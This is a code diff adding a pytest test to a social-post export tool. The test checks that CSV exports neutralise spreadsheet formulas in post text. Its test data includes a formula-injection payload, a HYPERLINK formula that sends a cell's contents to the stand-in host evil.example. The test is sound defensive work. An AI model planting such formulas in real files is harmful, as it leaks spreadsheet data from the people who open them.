@@ -103,3 +103,22 @@ def test_unknown_format_and_undated_ideas_are_refused(planned, tmp_path):
     with pytest.raises(ValueError, match="1 idea\\(s\\) have no date"):
         export_ideas(planned, "md", tmp_path / "x.md")
     assert render_markdown([i for i in planned if i.suggested_for]).startswith("# Employer-brand calendar")
+
+
+@pytest.mark.parametrize("fmt, column", [("hootsuite", "message"), ("sprout", "message_text")])
+def test_brand_csv_formula_text_is_inert(tmp_path, fmt, column):
+    """Post text comes from other companies' postings: a formula in it must not run in a spreadsheet.
+
+    Mutant caught: writing `idea.text` instead of `neutralise(idea.text)` in
+    `export_hootsuite` / `export_sprout` leaves `=HYPERLINK(...)` live in the file.
+    """
+    from sourcing.exports import FORMULA_PREFIXES
+
+    start = datetime(2027, 1, 4, 9, 0)
+    texts = [p + 'HYPERLINK("http://evil.example/?x="&A1,"Apply")' for p in FORMULA_PREFIXES] + ["Plain post, a=b"]
+    ideas = [Idea(angle="role", role="r", platform="x", lang="en", draft=text, hashtags=[], evidence=[], subject=f"s{n}",
+                  priority=1.0, suggested_for=start + timedelta(hours=n)) for n, text in enumerate(texts)]
+    ideas[0].edited_text = "=1+1 edited"  # what is posted is the edited text: that one is neutralised too
+    (path,) = export_ideas(ideas, fmt, tmp_path / "posts.csv")
+    written = [row[column] for row in _rows(path)[1]]
+    assert written == ["'=1+1 edited", *("'" + t for t in texts[1:-1]), "Plain post, a=b"]
